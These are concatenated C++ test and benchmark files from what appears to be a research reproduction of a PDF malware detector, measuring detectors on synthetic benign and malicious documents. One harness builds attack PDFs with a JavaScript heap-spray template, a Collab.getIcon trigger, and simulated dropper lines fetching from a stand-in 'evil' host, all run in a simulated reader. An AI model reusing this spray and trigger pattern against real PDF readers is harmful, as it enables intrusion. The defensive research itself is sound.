#include <gtest/gtest.h>

#include <set>

#include "support/alloc_stats.hpp"
#include "support/checksum.hpp"
#include "support/encoding.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"
#include "support/stats.hpp"
#include "support/strings.hpp"
#include "support/table.hpp"

namespace sp = pdfshield::support;

TEST(Hex, RoundTripsArbitraryBytes) {
  sp::Bytes data = {0x00, 0x01, 0x7f, 0x80, 0xff, 0xab};
  EXPECT_EQ(sp::hex_encode(data), "00017f80ffab");
  EXPECT_EQ(sp::hex_decode("00017f80ffab"), data);
}

TEST(Hex, AcceptsUppercaseAndWhitespace) {
  EXPECT_EQ(sp::hex_decode("DE AD\nBE\tEF"), sp::to_bytes("\xde\xad\xbe\xef"));
}

TEST(Hex, RejectsInvalidInput) {
  EXPECT_THROW(sp::hex_decode("xy"), sp::DecodeError);
  EXPECT_THROW(sp::hex_decode("abc"), sp::DecodeError);
}

TEST(Base64, KnownVectors) {
  // RFC 4648 §10 test vectors.
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("")), "");
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("f")), "Zg==");
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("fo")), "Zm8=");
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("foo")), "Zm9v");
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("foob")), "Zm9vYg==");
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("fooba")), "Zm9vYmE=");
  EXPECT_EQ(sp::base64_encode(sp::to_bytes("foobar")), "Zm9vYmFy");
}

TEST(Base64, DecodeInvertsEncode) {
  sp::Rng rng(7);
  for (std::size_t n = 0; n < 40; ++n) {
    sp::Bytes data = rng.bytes(n);
    EXPECT_EQ(sp::base64_decode(sp::base64_encode(data)), data) << "n=" << n;
  }
}

TEST(Base64, RejectsGarbage) {
  EXPECT_THROW(sp::base64_decode("Zm9v!"), sp::DecodeError);
  EXPECT_THROW(sp::base64_decode("Zg==Zg"), sp::DecodeError);
}

TEST(Checksum, Crc32KnownVector) {
  // crc32("123456789") == 0xCBF43926 (canonical check value).
  EXPECT_EQ(sp::crc32(sp::to_bytes("123456789")), 0xCBF43926u);
}

TEST(Checksum, Adler32KnownVector) {
  // adler32("Wikipedia") == 0x11E60398.
  EXPECT_EQ(sp::adler32(sp::to_bytes("Wikipedia")), 0x11E60398u);
}

TEST(Checksum, Adler32LongInputDoesNotOverflow) {
  sp::Bytes data(100000, 0xff);
  // Value computed by an independent implementation.
  const std::uint32_t v = sp::adler32(data);
  EXPECT_NE(v, 0u);
  // Re-running must be deterministic.
  EXPECT_EQ(sp::adler32(data), v);
}

TEST(Checksum, FnvDistinguishesStrings) {
  EXPECT_NE(sp::fnv1a64("alpha"), sp::fnv1a64("beta"));
  EXPECT_EQ(sp::fnv1a64("alpha"), sp::fnv1a64(std::string_view("alpha")));
}

TEST(Rng, DeterministicForSameSeed) {
  sp::Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next_u64(), b.next_u64());
}

TEST(Rng, DifferentSeedsDiverge) {
  sp::Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) {
    if (a.next_u64() == b.next_u64()) ++same;
  }
  EXPECT_LT(same, 4);
}

TEST(Rng, UniformStaysInRange) {
  sp::Rng rng(3);
  for (int i = 0; i < 1000; ++i) {
    const std::uint64_t v = rng.uniform(10, 20);
    EXPECT_GE(v, 10u);
    EXPECT_LE(v, 20u);
  }
}

TEST(Rng, Uniform01InHalfOpenInterval) {
  sp::Rng rng(4);
  for (int i = 0; i < 1000; ++i) {
    const double v = rng.uniform01();
    EXPECT_GE(v, 0.0);
    EXPECT_LT(v, 1.0);
  }
}

TEST(Rng, IdentifierIsValidJsName) {
  sp::Rng rng(5);
  for (int i = 0; i < 50; ++i) {
    const std::string id = rng.identifier(8);
    ASSERT_EQ(id.size(), 8u);
    EXPECT_TRUE(std::isalpha(static_cast<unsigned char>(id[0])));
  }
}

TEST(Rng, ForkProducesIndependentStream) {
  sp::Rng a(9);
  sp::Rng child = a.fork();
  std::set<std::uint64_t> seen;
  for (int i = 0; i < 32; ++i) {
    seen.insert(a.next_u64());
    seen.insert(child.next_u64());
  }
  EXPECT_GT(seen.size(), 60u);
}

TEST(Stats, RunningStatsMatchesClosedForm) {
  sp::RunningStats s;
  for (double x : {2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0}) s.add(x);
  EXPECT_EQ(s.count(), 8u);
  EXPECT_DOUBLE_EQ(s.mean(), 5.0);
  EXPECT_NEAR(s.variance(), 32.0 / 7.0, 1e-12);
  EXPECT_DOUBLE_EQ(s.min(), 2.0);
  EXPECT_DOUBLE_EQ(s.max(), 9.0);
}

TEST(Stats, PercentileInterpolates) {
  std::vector<double> v = {1, 2, 3, 4, 5};
  EXPECT_DOUBLE_EQ(sp::percentile(v, 0), 1.0);
  EXPECT_DOUBLE_EQ(sp::percentile(v, 50), 3.0);
  EXPECT_DOUBLE_EQ(sp::percentile(v, 100), 5.0);
  EXPECT_DOUBLE_EQ(sp::percentile(v, 25), 2.0);
}

TEST(Stats, EmpiricalCdfIsMonotone) {
  std::vector<double> v = {0.1, 0.5, 0.5, 0.9, 0.2};
  auto cdf = sp::empirical_cdf(v);
  ASSERT_FALSE(cdf.empty());
  for (std::size_t i = 1; i < cdf.size(); ++i) {
    EXPECT_GT(cdf[i].x, cdf[i - 1].x);
    EXPECT_GT(cdf[i].fraction, cdf[i - 1].fraction);
  }
  EXPECT_DOUBLE_EQ(cdf.back().fraction, 1.0);
}

TEST(Stats, CdfAtCountsInclusive) {
  std::vector<double> v = {1, 2, 3, 4};
  EXPECT_DOUBLE_EQ(sp::cdf_at(v, 2.0), 0.5);
  EXPECT_DOUBLE_EQ(sp::cdf_at(v, 0.0), 0.0);
  EXPECT_DOUBLE_EQ(sp::cdf_at(v, 9.0), 1.0);
}

TEST(Strings, SplitAndJoinRoundTrip) {
  auto parts = sp::split("a,b,,c", ',');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[2], "");
  EXPECT_EQ(sp::join(parts, ","), "a,b,,c");
}

TEST(Strings, TrimRemovesEdges) {
  EXPECT_EQ(sp::trim("  x y \t\n"), "x y");
  EXPECT_EQ(sp::trim(""), "");
  EXPECT_EQ(sp::trim("   "), "");
}

TEST(Strings, ReplaceAllHandlesOverlap) {
  EXPECT_EQ(sp::replace_all("aaa", "aa", "b"), "ba");
  EXPECT_EQ(sp::replace_all("hello", "l", "LL"), "heLLLLo");
}

TEST(Strings, FormatDoubleTrimsZeros) {
  EXPECT_EQ(sp::format_double(1.5), "1.5");
  EXPECT_EQ(sp::format_double(2.0), "2");
  EXPECT_EQ(sp::format_double(0.12345, 2), "0.12");
}

TEST(Table, RendersAlignedColumns) {
  sp::TextTable t({"name", "value"});
  t.add_row({"x", "1"});
  t.add_row({"longer", "22"});
  const std::string s = t.render("Title");
  EXPECT_NE(s.find("Title"), std::string::npos);
  EXPECT_NE(s.find("| name"), std::string::npos);
  EXPECT_NE(s.find("| longer"), std::string::npos);
}

TEST(Table, RejectsArityMismatch) {
  sp::TextTable t({"a", "b"});
  EXPECT_THROW(t.add_row({"only-one"}), sp::LogicError);
}

TEST(AllocStats, ScopesMeasureDeltas) {
  sp::AllocStats::reset();
  sp::AllocScope outer;
  sp::AllocStats::note_object(100);
  {
    sp::AllocScope inner;
    sp::AllocStats::note_object(50);
    EXPECT_EQ(inner.objects(), 1u);
    EXPECT_EQ(inner.bytes(), 50u);
  }
  EXPECT_EQ(outer.objects(), 2u);
  EXPECT_EQ(outer.bytes(), 150u);
  EXPECT_EQ(sp::AllocStats::peak_live_bytes(), 150u);
}
