// Tests for the Table-IX baseline detectors: each learns/flags sensibly on
// the synthetic corpus, and the qualitative orderings the paper reports
// hold (structural methods strong on ordinary malware but defeated by
// mimicry; extract-and-emulate misses context-dependent samples; ours
// resists both).
#include <gtest/gtest.h>

#include <memory>

#include "baselines/dynamic_baselines.hpp"
#include "baselines/static_baselines.hpp"
#include "core/jschain.hpp"
#include "corpus/generator.hpp"
#include "ml/metrics.hpp"
#include "pdf/parser.hpp"

namespace bl = pdfshield::baselines;
namespace cp = pdfshield::corpus;
namespace ml = pdfshield::ml;
namespace sp = pdfshield::support;

namespace {

struct SharedCorpus {
  std::vector<cp::Sample> train;
  std::vector<cp::Sample> test;

  SharedCorpus() {
    cp::CorpusConfig cfg;
    cfg.seed = 0xBA5E;
    cp::CorpusGenerator gen(cfg);
    auto benign = gen.generate_benign(120);
    auto benign_js = gen.generate_benign_with_js(40);
    auto malicious = gen.generate_malicious(120);
    // Interleave and split 60/40.
    std::vector<cp::Sample> all;
    for (auto& s : benign) all.push_back(std::move(s));
    for (auto& s : benign_js) all.push_back(std::move(s));
    for (auto& s : malicious) all.push_back(std::move(s));
    sp::Rng rng(7);
    rng.shuffle(all);
    const std::size_t cut = all.size() * 6 / 10;
    for (std::size_t i = 0; i < all.size(); ++i) {
      (i < cut ? train : test).push_back(std::move(all[i]));
    }
  }
};

const SharedCorpus& shared_corpus() {
  static const SharedCorpus corpus;
  return corpus;
}

ml::Metrics run_baseline(bl::Baseline& detector) {
  const SharedCorpus& c = shared_corpus();
  detector.train(c.train);
  ml::Metrics m;
  for (const auto& s : c.test) {
    const int guess = detector.predict(s.data);
    if (s.malicious) {
      guess ? ++m.tp : ++m.fn;
    } else {
      guess ? ++m.fp : ++m.tn;
    }
  }
  return m;
}

}  // namespace

TEST(Baselines, NgramLearnsSomethingButIsWeak) {
  bl::NgramBaseline ngram;
  ml::Metrics m = run_baseline(ngram);
  // Better than coin-flip on TPR, but clearly not a precision tool.
  EXPECT_GT(m.tpr(), 0.5) << m.summary();
}

TEST(Baselines, PjscanDetectsJsBearingMalware) {
  bl::PjscanBaseline pjscan;
  ml::Metrics m = run_baseline(pjscan);
  EXPECT_GT(m.tpr(), 0.6) << m.summary();
  // One-class lexical models misfire on some benign JS (paper: 16% FP).
  EXPECT_LT(m.fpr(), 0.5) << m.summary();
}

TEST(Baselines, PjscanIgnoresJsFreeDocuments) {
  bl::PjscanBaseline pjscan;
  pjscan.train(shared_corpus().train);
  cp::CorpusGenerator gen;
  for (const auto& s : gen.generate_benign(10)) {
    if (!s.has_javascript) {
      EXPECT_EQ(pjscan.predict(s.data), 0) << s.name;
    }
  }
}

TEST(Baselines, StructuralIsAccurateOnOrdinaryCorpus) {
  bl::StructuralBaseline structural;
  ml::Metrics m = run_baseline(structural);
  EXPECT_GT(m.tpr(), 0.85) << m.summary();
  EXPECT_LT(m.fpr(), 0.1) << m.summary();
}

TEST(Baselines, PdfrateIsAccurateOnOrdinaryCorpus) {
  bl::PdfrateBaseline pdfrate;
  ml::Metrics m = run_baseline(pdfrate);
  // Trigger-surface diversity (OpenAction / page-AA / named scripts) costs
  // the metadata forest some recall relative to a single-trigger corpus.
  EXPECT_GT(m.tpr(), 0.8) << m.summary();
  EXPECT_LT(m.fpr(), 0.1) << m.summary();
}

TEST(Baselines, MdscanCatchesPlainSpraysButNotAll) {
  bl::MdscanBaseline mdscan;
  ml::Metrics m = run_baseline(mdscan);
  EXPECT_GT(m.tpr(), 0.5) << m.summary();
  EXPECT_LT(m.tpr(), 1.0) << "extract-and-emulate should miss some";
  EXPECT_LT(m.fpr(), 0.1) << m.summary();
}

TEST(Baselines, MdscanMissesDocContextPayloads) {
  // Payload hidden in this.info.Title: extraction loses the document
  // context and the spray never runs (the §II critique).
  cp::CorpusConfig cfg;
  cfg.seed = 0x715;
  cfg.frac_noise = cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
  cfg.frac_render_context = cfg.frac_staged = cfg.frac_delayed = 0;
  cfg.frac_egghunt = cfg.frac_inject = cfg.frac_shell = 0;
  cp::CorpusGenerator gen(cfg);
  bl::MdscanBaseline mdscan;
  bl::OursBaseline ours;
  int mdscan_missed_title = 0, ours_missed_title = 0, title_count = 0;
  for (const auto& s : gen.generate_malicious(60)) {
    pdfshield::pdf::Document doc = pdfshield::pdf::parse_document(s.data);
    bool title_style = false;
    for (const auto& site : pdfshield::core::analyze_js_chains(doc).sites) {
      if (site.source.find("this.info.Title") != std::string::npos) {
        title_style = true;
      }
    }
    if (!title_style) continue;
    ++title_count;
    if (mdscan.predict(s.data) == 0) ++mdscan_missed_title;
    if (ours.predict(s.data) == 0) ++ours_missed_title;
  }
  ASSERT_GT(title_count, 0) << "corpus should include title-style samples";
  EXPECT_EQ(mdscan_missed_title, title_count)
      << "MDScan must miss every title-smuggled payload";
  EXPECT_EQ(ours_missed_title, 0)
      << "instrumentation runs in the real document context";
}

TEST(Baselines, WepawetHeuristicsFlagClassicSprays) {
  bl::WepawetBaseline wepawet;
  ml::Metrics m = run_baseline(wepawet);
  EXPECT_GT(m.tpr(), 0.4) << m.summary();
  EXPECT_LT(m.fpr(), 0.15) << m.summary();
}

TEST(Baselines, OursHasZeroFalsePositives) {
  bl::OursBaseline ours;
  ml::Metrics m = run_baseline(ours);
  EXPECT_EQ(m.fp, 0u) << m.summary();
  // TP covers everything except noise/crash-plain ground truth.
  std::size_t expected_detectable = 0, detectable_and_malicious = 0;
  for (const auto& s : shared_corpus().test) {
    if (s.malicious) {
      ++detectable_and_malicious;
      if (s.expect_detectable) ++expected_detectable;
    }
  }
  (void)detectable_and_malicious;
  EXPECT_GE(m.tp, expected_detectable * 9 / 10) << m.summary();
}

TEST(Baselines, MimicryDefeatsStaticButNotOurs) {
  // The [8]-style evasion: behaviourally identical droppers whose static
  // profile matches benign documents.
  cp::CorpusGenerator gen;
  std::vector<cp::Sample> mimicry;
  for (std::size_t i = 0; i < 12; ++i) mimicry.push_back(gen.make_mimicry_variant(i));

  bl::StructuralBaseline structural;
  bl::PdfrateBaseline pdfrate;
  bl::OursBaseline ours;
  structural.train(shared_corpus().train);
  pdfrate.train(shared_corpus().train);

  int structural_hits = 0, pdfrate_hits = 0, ours_hits = 0;
  for (const auto& s : mimicry) {
    structural_hits += structural.predict(s.data);
    pdfrate_hits += pdfrate.predict(s.data);
    ours_hits += ours.predict(s.data);
  }
  EXPECT_EQ(ours_hits, 12) << "runtime behaviour cannot be mimicked away";
  EXPECT_LT(structural_hits + pdfrate_hits, 2 * 12)
      << "static methods should lose ground on mimicry";
}
