// §IV reproduction: the security analysis as a measured experiment. Each
// advanced attack the paper discusses is mounted against the deployed
// system; the table reports whether the attack achieved anything and
// whether the document was convicted.
//   * mimicry (fake SOAP message)         -> zero tolerance conviction
//   * structural mimicry [8]              -> runtime features still fire
//   * staged attack (Doc.addScript)       -> stage-2 instrumented statically
//   * delayed execution (app.setTimeOut)  -> same countermeasure
//   * cross-document split attack         -> executable list links both
//   * runtime patching                    -> encrypted payload, nothing to patch
#include "bench_util.hpp"
#include "corpus/builders.hpp"
#include "reader/shellcode.hpp"

using namespace pdfshield;

namespace {

struct AttackResult {
  std::string attack;
  bool goal_achieved;  ///< did the attacker get an un-confined effect?
  bool convicted;
  std::string note;
};

corpus::Sample make_sample(const std::string& name, const std::string& script,
                           std::uint64_t seed) {
  support::Rng rng(seed);
  corpus::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(script);
  corpus::Sample s;
  s.name = name;
  s.data = builder.build();
  s.malicious = true;
  return s;
}

std::string spray(const std::string& shellcode) {
  return "var unit = unescape('%u9090%u9090') + '" + shellcode + "';"
         "var spray = unit; while (spray.length < 4194304) spray += spray;"
         "var keep = spray;";
}

}  // namespace

int main() {
  bench::print_header("Sec IV", "Security analysis under an advanced attacker");
  std::vector<AttackResult> results;

  // --- 1. Mimicry: forged exit message ------------------------------------
  {
    bench::Deployment dep(101);
    auto s = make_sample(
        "mimicry-fake-exit.pdf",
        "SOAP.request({cURL: 'http://127.0.0.1:8777/pdfshield',"
        " oRequest: {op: 'exit', key: 'forged-key'}});" +
            spray("SC{EXEC:c:/fake.exe}") +
            "Collab.getIcon(keep.substring(0, 1500));",
        201);
    auto out = dep.run(s);
    results.push_back({"fake SOAP exit message",
                       dep.kernel.fs().exists("c:/fake.exe"), out.malicious_verdict,
                       "zero tolerance converts the forgery into evidence"});
  }

  // --- 2. Structural mimicry [8] -------------------------------------------
  {
    bench::Deployment dep(102);
    corpus::CorpusGenerator gen;
    corpus::Sample s = gen.make_mimicry_variant(7);
    auto out = dep.run(s);
    bool escaped = false;
    for (const auto& f : dep.kernel.fs().list()) {
      if (!sys::VirtualFileSystem::is_quarantined(f) &&
          f.find(".exe") != std::string::npos &&
          f.rfind("sandbox://", 0) != 0) {
        escaped = true;
      }
    }
    results.push_back({"structural mimicry (benign-looking document)", escaped,
                       out.malicious_verdict,
                       "static features nulled, runtime behaviour unchanged"});
  }

  // --- 3. Staged attack ------------------------------------------------------
  {
    bench::Deployment dep(103);
    auto s = make_sample(
        "staged.pdf",
        spray("SC{DROP:http://evil/s2.exe>c:/s2.exe;EXEC:c:/s2.exe}") +
            "this.addScript('st2', 'Collab.getIcon(keep.substring(0, 1500));');",
        203);
    auto out = dep.run(s);
    results.push_back({"staged attack via Doc.addScript",
                       dep.kernel.fs().exists("c:/s2.exe"), out.malicious_verdict,
                       "Table-IV literals get their own envelopes"});
  }

  // --- 4. Delayed execution ---------------------------------------------------
  {
    bench::Deployment dep(104);
    auto s = make_sample(
        "delayed.pdf",
        spray("SC{DROP:http://evil/d.exe>c:/d.exe;EXEC:c:/d.exe}") +
            "app.setTimeOut('Collab.getIcon(keep.substring(0, 1500));', 60000);",
        204);
    auto out = dep.run(s);
    results.push_back({"delayed execution via app.setTimeOut",
                       dep.kernel.fs().exists("c:/d.exe"), out.malicious_verdict,
                       "setTimeOut argument instrumented statically"});
  }

  // --- 5. Cross-document split attack ----------------------------------------
  {
    bench::Deployment dep(105);
    corpus::CorpusGenerator gen;
    auto [dropper, executor] = gen.generate_cross_document_pair();
    auto out_a = dep.run(dropper);
    auto out_b = dep.run(executor);
    results.push_back({"cross-document split (drop in A, exec in B)",
                       false, out_a.malicious_verdict && out_b.malicious_verdict,
                       "persistent executable list links both documents"});
  }

  // --- 6. Runtime patching -----------------------------------------------------
  {
    // The second script tries to neutralize monitoring by "patching" —
    // but every script body is encrypted under the per-document key, so
    // the attacker cannot even locate plaintext to patch; here it tries a
    // fake exit then misbehaves.
    bench::Deployment dep(106);
    support::Rng rng(206);
    corpus::DocumentBuilder builder(rng);
    builder.add_blank_page();
    builder.set_open_action_js(spray("SC{EXEC:c:/patch.exe}"));
    builder.chain_next_js(
        "SOAP.request({cURL: 'http://127.0.0.1:8777/pdfshield',"
        " oRequest: {op: 'exit', key: 'patched-out'}});"
        "Collab.getIcon(keep.substring(0, 1500));");
    corpus::Sample s;
    s.name = "runtime-patching.pdf";
    s.data = builder.build();
    auto out = dep.run(s);
    results.push_back({"runtime patching + forged envelope exit",
                       dep.kernel.fs().exists("c:/patch.exe"), out.malicious_verdict,
                       "encrypted payloads retain control; forgery convicts"});
  }

  support::TextTable table({"Attack", "attacker goal achieved", "convicted", "defense"});
  bool all_defended = true;
  for (const auto& r : results) {
    table.add_row({r.attack, r.goal_achieved ? "YES (!)" : "no",
                   r.convicted ? "yes" : "NO (!)", r.note});
    if (r.goal_achieved || !r.convicted) all_defended = false;
  }
  std::cout << table.render("Advanced attacks vs deployed system");
  std::cout << (all_defended
                    ? "all six attacks neutralized and convicted.\n"
                    : "WARNING: at least one attack partially succeeded.\n");
  return all_defended ? 0 : 1;
}
