// Shared plumbing for the experiment harnesses (one binary per paper
// table/figure). Each binary prints its reproduction in a uniform format;
// set PDFSHIELD_BENCH_SCALE=small for a quick pass (CI) or =paper for the
// full Table V sample counts.
#pragma once

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <string>
#include <vector>

#include "core/detector.hpp"
#include "support/checksum.hpp"
#include "core/pipeline.hpp"
#include "corpus/generator.hpp"
#include "reader/reader_sim.hpp"
#include "support/json.hpp"
#include "support/strings.hpp"
#include "support/table.hpp"
#include "sys/kernel.hpp"

namespace pdfshield::bench {

/// Corpus scale knob.
struct Scale {
  std::size_t benign_with_js;
  std::size_t malicious;
};

inline Scale bench_scale() {
  const char* env = std::getenv("PDFSHIELD_BENCH_SCALE");
  const std::string mode = env ? env : "default";
  if (mode == "small") return {60, 60};
  if (mode == "paper") return {994, 1000};  // Table VIII counts
  return {200, 250};
}

/// One complete deployment: kernel + detector + front-end + reader.
struct Deployment {
  sys::Kernel kernel;
  support::Rng rng;
  core::RuntimeDetector detector;
  core::FrontEnd frontend;
  reader::ReaderSim reader;

  explicit Deployment(std::uint64_t seed = 42, const std::string& version = "9.0")
      : rng(seed),
        detector(kernel, rng),
        frontend(rng, detector.detector_id()),
        reader(kernel, make_reader_config(version)) {
    detector.attach(reader);
  }

  static reader::ReaderConfig make_reader_config(const std::string& version) {
    reader::ReaderConfig cfg;
    cfg.version = version;
    return cfg;
  }

  struct RunOutcome {
    bool instrumented = false;
    bool malicious_verdict = false;
    double malscore = 0.0;
    reader::OpenResult open;
  };

  /// Full pipeline over one sample. Note: one Deployment processes many
  /// documents, but a crashed reader must be respawned (fresh Deployment)
  /// by the caller.
  RunOutcome run(const corpus::Sample& sample) {
    RunOutcome out;
    core::FrontEndResult fe = frontend.process(sample.data);
    if (!fe.ok) return out;
    out.instrumented = !fe.record.entries.empty();
    detector.register_document(fe.record.key, sample.name, fe.features);
    out.open = reader.open_document(fe.output, sample.name);
    const core::Verdict v = detector.verdict(fe.record.key);
    out.malicious_verdict = v.malicious;
    out.malscore = v.malscore;
    return out;
  }
};

/// Wall-clock helper.
class Timer {
 public:
  Timer() : start_(std::chrono::steady_clock::now()) {}
  double seconds() const {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - start_)
        .count();
  }

 private:
  std::chrono::steady_clock::time_point start_;
};

inline std::string fmt(double v, int digits = 3) {
  return support::format_double(v, digits);
}

inline std::string mb(double bytes) {
  return support::format_double(bytes / (1024.0 * 1024.0), 1) + " MB";
}

inline void print_header(const std::string& id, const std::string& title) {
  std::cout << "\n==== " << id << ": " << title << " ====\n";
}

/// One measurement destined for a BENCH_*.json trajectory file.
struct BenchResult {
  std::string name;   ///< stable key, e.g. "BM_FlateDecompress/1048576"
  double value = 0;   ///< measured value in `unit`
  std::string unit;   ///< e.g. "bytes_per_second", "docs_per_second"
};

/// Scans argv for `--json PATH`; empty string when absent.
inline std::string json_output_path(int argc, char** argv) {
  for (int i = 1; i < argc; ++i) {
    if (std::string(argv[i]) == "--json" && i + 1 < argc) return argv[i + 1];
  }
  return {};
}

/// Writes results in the stable trajectory format consumed by
/// tools/bench_check.py and archived as BENCH_<suite>.json at the repo
/// root. Keys must stay stable across PRs — the checked-in baselines are
/// compared by name.
inline void bench_to_json(const std::string& path, const std::string& suite,
                          const std::vector<BenchResult>& results) {
  const char* scale = std::getenv("PDFSHIELD_BENCH_SCALE");
  support::Json root = support::Json::object();
  root["suite"] = suite;
  root["scale"] = scale ? scale : "default";
  support::Json entries = support::Json::array();
  for (const BenchResult& r : results) {
    support::Json e = support::Json::object();
    e["name"] = r.name;
    e["value"] = r.value;
    e["unit"] = r.unit;
    entries.push_back(e);
  }
  root["benchmarks"] = entries;
  std::ofstream out(path);
  out << root.dump(2) << "\n";
  if (!out) {
    std::cerr << "bench_to_json: failed to write " << path << "\n";
    std::exit(1);
  }
  std::cout << "wrote " << results.size() << " benchmark entries to " << path
            << "\n";
}

}  // namespace pdfshield::bench
