// Figure 7 reproduction: JS-context memory consumption of 30 randomly
// sampled malicious vs 30 benign (JS-bearing) documents. Paper shape:
// benign averages ~7.1 MB with max 21 MB; malicious averages ~336 MB with
// min 103 MB and max ~1700 MB.
#include "bench_util.hpp"
#include "support/stats.hpp"

using namespace pdfshield;

namespace {

support::RunningStats measure(const std::vector<corpus::Sample>& samples) {
  support::RunningStats stats;
  for (const auto& s : samples) {
    // Fresh deployment per sample: crashes must not leak across runs.
    bench::Deployment dep(support::fnv1a64(s.name));
    auto out = dep.run(s);
    stats.add(static_cast<double>(out.open.js_reported_bytes));
  }
  return stats;
}

}  // namespace

int main() {
  bench::print_header("Figure 7", "Memory consumption of malicious and benign Javascripts");

  corpus::CorpusGenerator gen;
  const auto benign = gen.generate_benign_with_js(30);
  auto malicious_pool = gen.generate_malicious(60);
  // The paper samples exploit-bearing documents (its noise samples did not
  // reach JS-heavy code); mirror that by skipping version-gated ones.
  std::vector<corpus::Sample> malicious;
  for (auto& s : malicious_pool) {
    if (!s.expect_noise && malicious.size() < 30) malicious.push_back(std::move(s));
  }

  const support::RunningStats b = measure(benign);
  const support::RunningStats m = measure(malicious);

  support::TextTable table({"population", "n", "min", "mean", "max"});
  table.add_row({"benign JS", std::to_string(b.count()), bench::mb(b.min()),
                 bench::mb(b.mean()), bench::mb(b.max())});
  table.add_row({"malicious JS", std::to_string(m.count()), bench::mb(m.min()),
                 bench::mb(m.mean()), bench::mb(m.max())});
  std::cout << table.render("In-JS-context memory consumption");

  std::cout << "paper: benign mean 7.1 MB / max 21 MB; malicious mean 336.4 MB"
               " / min 103 MB / max ~1700 MB\n";
  std::cout << "separation holds: max(benign)="
            << bench::mb(b.max()) << " << min(malicious)=" << bench::mb(m.min())
            << (b.max() < m.min() ? "  [OK]" : "  [VIOLATED]") << "\n";
  return 0;
}
