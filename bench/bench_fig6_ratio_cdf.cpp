// Figure 6 reproduction: CDF of the ratio of PDF objects on Javascript
// chains, benign (994-style with-JS population) vs malicious documents.
// Paper shape: ~90% of benign below 0.2, almost none above 0.6; ~95% of
// malicious at or above 0.2, with a cluster at ratio 1.
#include "bench_util.hpp"
#include "core/static_features.hpp"
#include "pdf/parser.hpp"
#include "support/stats.hpp"

using namespace pdfshield;

int main() {
  bench::print_header("Figure 6", "Ratio of PDF objects on Javascript chains");
  const bench::Scale scale = bench::bench_scale();

  corpus::CorpusGenerator gen;
  std::vector<double> benign_ratios, malicious_ratios;

  for (const auto& s : gen.generate_benign_with_js(scale.benign_with_js)) {
    pdf::Document doc = pdf::parse_document(s.data);
    benign_ratios.push_back(core::analyze_js_chains(doc).chain_ratio());
  }
  std::size_t ratio_one = 0;
  for (const auto& s : gen.generate_malicious(scale.malicious)) {
    pdf::Document doc = pdf::parse_document(s.data);
    const double r = core::analyze_js_chains(doc).chain_ratio();
    malicious_ratios.push_back(r);
    if (r >= 0.999) ++ratio_one;
  }

  support::TextTable table({"ratio x", "benign CDF", "malicious CDF"});
  for (double x : {0.05, 0.1, 0.15, 0.2, 0.3, 0.4, 0.5, 0.6, 0.8, 1.0}) {
    table.add_row({bench::fmt(x, 2),
                   bench::fmt(support::cdf_at(benign_ratios, x), 3),
                   bench::fmt(support::cdf_at(malicious_ratios, x), 3)});
  }
  std::cout << table.render("Empirical CDF of F1 (chain ratio)");

  std::cout << "benign samples: " << benign_ratios.size()
            << ", malicious samples: " << malicious_ratios.size() << "\n";
  std::cout << "paper checkpoints: benign P(r<0.2)~=0.90 -> measured "
            << bench::fmt(support::cdf_at(benign_ratios, 0.1999), 3)
            << "; malicious P(r>=0.2)~=0.95 -> measured "
            << bench::fmt(1.0 - support::cdf_at(malicious_ratios, 0.1999), 3)
            << "; malicious with ratio 1: " << ratio_one << "\n";
  return 0;
}
