// Table VI reproduction: marginal statistics of the static features over
// the malicious corpus (header obfuscation, hex code in keywords, empty
// objects, encoding levels), plus the benign-side contrast the text gives
// (3 benign header-obfuscated docs, none with hex code or empty objects).
#include <map>

#include "bench_util.hpp"
#include "core/static_features.hpp"
#include "pdf/parser.hpp"

using namespace pdfshield;

int main() {
  bench::print_header("Table VI", "Statistics of static features of malicious documents");
  const bench::Scale scale = bench::bench_scale();
  corpus::CorpusGenerator gen;

  std::size_t header_true = 0, hex_true = 0;
  std::map<int, std::size_t> empty_hist, encoding_hist;
  std::size_t total = 0;

  for (const auto& s : gen.generate_malicious(scale.malicious)) {
    pdf::Document doc = pdf::parse_document(s.data);
    const core::StaticFeatures f = core::extract_static_features(doc);
    ++total;
    if (f.f2()) ++header_true;
    if (f.f3()) ++hex_true;
    ++empty_hist[std::min(f.empty_object_count, 6)];
    ++encoding_hist[std::min(f.max_encoding_levels, 6)];
  }

  support::TextTable table({"Feature", "0/False", "1/True", "2", "3+"});
  auto hist_cell = [](const std::map<int, std::size_t>& h, int k) {
    auto it = h.find(k);
    return std::to_string(it == h.end() ? 0 : it->second);
  };
  auto hist_tail = [](const std::map<int, std::size_t>& h) {
    std::size_t n = 0;
    for (const auto& [k, c] : h) {
      if (k >= 3) n += c;
    }
    return std::to_string(n);
  };
  table.add_row({"Header Obfuscation", std::to_string(total - header_true),
                 std::to_string(header_true), "-", "-"});
  table.add_row({"Hex Code", std::to_string(total - hex_true),
                 std::to_string(hex_true), "-", "-"});
  table.add_row({"Empty Objects", hist_cell(empty_hist, 0), hist_cell(empty_hist, 1),
                 hist_cell(empty_hist, 2), hist_tail(empty_hist)});
  table.add_row({"Encoding Level", hist_cell(encoding_hist, 0),
                 hist_cell(encoding_hist, 1), hist_cell(encoding_hist, 2),
                 hist_tail(encoding_hist)});
  std::cout << table.render("Malicious corpus (" + std::to_string(total) + " samples)");

  // Benign contrast (paper: 3 header-obfuscated, 0 hex, 0 empty; all
  // benign docs use 0 or 1 encoding level).
  std::size_t b_header = 0, b_hex = 0, b_empty = 0, b_multi_enc = 0, b_total = 0;
  for (const auto& s : gen.generate_benign_with_js(scale.benign_with_js)) {
    pdf::Document doc = pdf::parse_document(s.data);
    const core::StaticFeatures f = core::extract_static_features(doc);
    ++b_total;
    if (f.f2()) ++b_header;
    if (f.f3()) ++b_hex;
    if (f.f4()) ++b_empty;
    if (f.f5()) ++b_multi_enc;
  }
  std::cout << "benign contrast over " << b_total
